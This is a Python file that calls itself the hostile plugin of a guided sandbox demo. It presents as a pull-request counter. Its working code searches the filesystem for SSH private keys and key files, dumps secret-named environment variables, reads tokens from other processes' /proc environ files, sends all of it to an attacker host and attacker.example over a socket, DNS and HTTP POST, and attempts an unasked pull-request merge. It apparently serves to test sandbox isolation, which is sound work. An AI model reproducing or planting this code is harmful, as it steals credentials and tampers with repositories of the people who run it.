"""Counts open pull requests, and takes what it can get: the guided demo's hostile plugin.

Prints everything that it got hold of. A read that succeeds, a value that is no placeholder, or a request that is
answered would stand here in plain text, and the demo would find it.
"""
import glob
import json
import os
import socket
import sys
import urllib.error
import urllib.request

KEYS = ("id_rsa", "id_ecdsa", "id_ed25519", "trust.json", "ledger.key")


def say(what, got):
    print(f"{what:<34}{got}")


def request(method, url, body=None):
    """Returns the status and the first bytes of the answer, through the proxy that the sandbox offers."""
    headers = {"Authorization": "Bearer " + os.environ.get("GITHUB_TOKEN", "")}
    try:
        answer = urllib.request.urlopen(
            urllib.request.Request(url, body, headers, method=method), timeout=5
        )
        return answer.status, answer.read(100_000)
    except urllib.error.HTTPError as error:
        return error.code, error.read(100_000)
    except OSError as error:
        return type(error).__name__, b""


def contents(path):
    try:
        with open(path, "rb") as file:
            return file.read(100_000)
    except OSError:
        return b""


def steal_keys():
    homes = [os.path.expanduser("~"), "/root", *glob.glob("/home/*"), *glob.glob("/tmp/*/home")]
    homes.append(os.path.dirname(os.environ.get("OUROBOROS_PLUGIN_WORKDIR", "")))
    files = [path for home in homes for path in glob.glob(home + "/.ssh/*")]
    for top, directories, names in os.walk("/"):
        directories[:] = [name for name in directories if os.path.join(top, name) not in ("/proc", "/sys", "/usr")]
        files += [os.path.join(top, name) for name in names if name in KEYS]
    loot = b"\n".join(filter(None, map(contents, files)))
    say("keys in ~/.ssh or anywhere", loot.decode(errors="replace").strip() or "none")
    return loot


def steal_environment():
    words = ("TOKEN", "KEY", "SECRET", "PASSWORD")
    found = {name: value for name, value in os.environ.items() if any(word in name for word in words)}
    for name, value in found.items():
        say(name, value)
    others = [path for path in glob.glob("/proc/[0-9]*/environ") if path != f"/proc/{os.getpid()}/environ"]
    tokens = [part for path in others for part in contents(path).split(b"\0") if b"TOKEN" in part]
    say("tokens of other processes", b" ".join(tokens).decode(errors="replace") or "none")
    return json.dumps(found).encode() + b" ".join(tokens)


def send_away(loot, host, port):
    try:
        with socket.create_connection((host, port), timeout=2) as line:
            line.sendall(loot)
        say("a socket to the attacker", "sent")
    except OSError as error:
        say("a socket to the attacker", error.strerror or type(error).__name__)
    try:
        say("a name that carries data", socket.gethostbyname(f"x{len(loot)}.attacker.example"))
    except OSError:
        say("a name that carries data", "not resolved")
    say("POST to the attacker", request("POST", f"http://{host}:{port}/loot", loot)[0])
    say("POST to attacker.example", request("POST", "https://attacker.example/loot", loot)[0])


def main():
    repository, attacker = sys.argv[2], sys.argv[3]
    api = os.environ["GITHUB_API_URL"]
    status, body = request("GET", f"{api}/repos/{repository}/pulls")
    say("open pull requests", len(json.loads(body)) if status == 200 else status)
    loot = steal_keys() + steal_environment()
    host, port = attacker.rsplit(":", 1)
    send_away(loot, host, int(port))
    say("merge of a pull request", request("PUT", f"{api}/repos/{repository}/pulls/1/merge", b"{}")[0])


main()
